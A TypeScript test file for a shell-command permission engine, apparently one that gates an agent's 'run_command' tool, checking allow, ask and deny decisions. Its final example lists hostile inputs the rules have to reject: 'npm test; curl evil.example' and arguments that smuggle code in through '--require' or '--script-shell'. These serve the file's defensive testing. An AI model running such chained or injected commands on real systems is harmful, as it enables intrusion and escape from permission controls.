import { describe, expect, it } from "vitest";
import { openConditions } from "../../src/config/open-conditions.ts";
import type { RuleSource } from "../../src/rules/rule.ts";
import { compileRules } from "../../src/rules/rule-set.ts";
import { decisionOn, rulesFrom, WORKSPACE } from "../shell/judged.ts";

const allow = (exec: string, more: Partial<RuleSource> = {}): RuleSource => ({
  id: "allow",
  effect: "allow",
  touch: { exec: [exec] },
  ...more,
});
const ask = (exec: string, more: Partial<RuleSource> = {}): RuleSource => ({
  id: "ask",
  effect: "ask",
  touch: { exec: [exec] },
  ...more,
});
const deny = (exec: string, more: Partial<RuleSource> = {}): RuleSource => ({
  id: "deny",
  effect: "deny",
  touch: { exec: [exec] },
  ...more,
});
const DYNAMIC = { dynamic: true };
const OTHERWISE = { otherwise: true };

describe("a rule that is there to tighten", () => {
  const tightens = ask("ls **", { id: "tightens", tightens: true });
  it.each<[string, readonly RuleSource[], "allow" | "ask" | "deny"]>([
    ["turns no deny into a question", [tightens], "deny"],
    ["asks where a rule lets it through", [allow("ls **"), tightens], "ask"],
    ["asks where a rule lets it through for want of another", [allow("ls **", OTHERWISE), tightens], "ask"],
    ["says nothing where it is asked about anyway", [ask("ls **"), tightens], "ask"],
    ["says nothing where it is denied", [allow("ls **"), deny("ls it"), tightens], "deny"],
  ])("%s", (_, rules, effect) => expect(decisionOn(rulesFrom(...rules), "ls it")).toBe(effect));
});

describe("what may be meant only tightens", () => {
  it.each<[string, readonly RuleSource[], line: string, "allow" | "ask" | "deny"]>([
    ["no rule lets it through", [ask("git push **")], "git $x", "deny"],
    ["an ask that may be meant", [allow("git **", DYNAMIC), ask("git push **")], 'git log -- "$x"', "allow"],
    ["an ask that is not meant", [allow("ls **", DYNAMIC), ask("ls publish **")], "ls $x", "ask"],
    ["a deny that may be meant", [allow("ls **", DYNAMIC), deny("ls publish **")], "ls $x", "deny"],
    ["an ask for a carrier", [allow("npm test"), ask("nohup **")], "nohup npm test", "ask"],
    ["a deny of a carrier", [allow("npm test"), deny("nohup **")], "nohup npm test", "deny"],
    [
      "an ask that may be meant, behind a plain allow",
      [allow("ls **", DYNAMIC), ask("ls a **", OTHERWISE)],
      "ls $x",
      "allow",
    ],
    ["an ask for all in the background", [allow("ls **", DYNAMIC), ask("**", OTHERWISE)], "ls $x", "allow"],
    [
      "an ask for all in the background of a rule for one tool",
      [allow("ls **", { ...DYNAMIC, tools: ["run_command"] }), ask("**", OTHERWISE)],
      "ls $x",
      "allow",
    ],
    ["an ask in the background", [allow("npm test"), ask("**", OTHERWISE)], "nohup npm test", "allow"],
    [
      "an ask that may be meant, in the background",
      [allow("ls **", { ...DYNAMIC, ...OTHERWISE }), ask("ls publish **", OTHERWISE)],
      "ls $x",
      "ask",
    ],
    [
      "a plain ask that may be meant",
      [allow("ls **", { ...DYNAMIC, ...OTHERWISE }), ask("ls publish **")],
      "ls $x",
      "ask",
    ],
    ["two that may be meant", [allow("ls **", DYNAMIC), ask("ls a **"), ask("ls b **", { id: "b" })], "ls $x", "ask"],
    ["a deny in the background is not softened", [deny("ls **", OTHERWISE), ask("ls a **")], "ls $x", "deny"],
    ["a deny by another name", [allow("**"), deny("rm **")], "/bin/rm x", "deny"],
    ["a deny behind a starter", [allow("**"), deny("rm **")], "busybox rm x", "deny"],
  ])("%s", (_, rules, line, expected) => expect(decisionOn(rulesFrom(...rules), line)).toBe(expected));

  it.each<[when: string, "allow" | "ask" | "deny"]>([
    ["touch.argv.size() > 9", "allow"],
    ["touch.argv.size() > 1", "ask"],
    ["touch.host == 'x'", "deny"],
  ])("a condition is asked then: %s", (when, expected) => {
    const rules = [allow("ls **", DYNAMIC), ask("ls publish **", { when })];
    const compiled = compileRules(rules, { workspace: WORKSPACE, conditions: openConditions() });
    if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
    expect(decisionOn(compiled.rules, "ls $x")).toBe(expected);
  });
});

describe("what can't be compiled", () => {
  it.each<[RuleSource, string]>([
    [allow("a; b"), "touch.exec[0]"],
    [{ id: "a", effect: "allow", dynamic: true }, "dynamic"],
    [{ id: "a", effect: "allow", dynamic: false, touch: { read: ["./a"] } }, "dynamic"],
  ])("%j", (rule, field) =>
    expect(compileRules([rule], { workspace: WORKSPACE })).toMatchObject({ ok: false, problems: [{ field }] }),
  );
});

describe("the design's own example", () => {
  const rules = rulesFrom(
    {
      id: "run-tests",
      effect: "allow",
      touch: { exec: ["npm test", "npm run lint *"] },
      grant: { write: ["./**"] },
      examples: {
        match: ["npm test"],
        noMatch: ["npm test; curl evil.example", "npm test --node-options=--require=./x", "./npm test"],
      },
    },
    { id: "push-needs-a-person", effect: "ask", touch: { exec: ["git push **"] } },
    { id: "other-commands", effect: "ask", otherwise: true, touch: { exec: ["**"] } },
  );
  it.each([
    ["npm test", "allow"],
    ["npm run lint src", "allow"],
    ["npm run lint --script-shell=./x", "ask"],
    ["npm test && npm run lint x", "allow"],
    ["npm test | tee log", "deny"],
    ["git push origin", "ask"],
    ["git status", "ask"],
    ["./npm test", "ask"],
    ["npm test $x", "deny"],
    ["$x", "deny"],
  ])("%s: %s", (line, expected) => expect(decisionOn(rules, line)).toBe(expected));
});
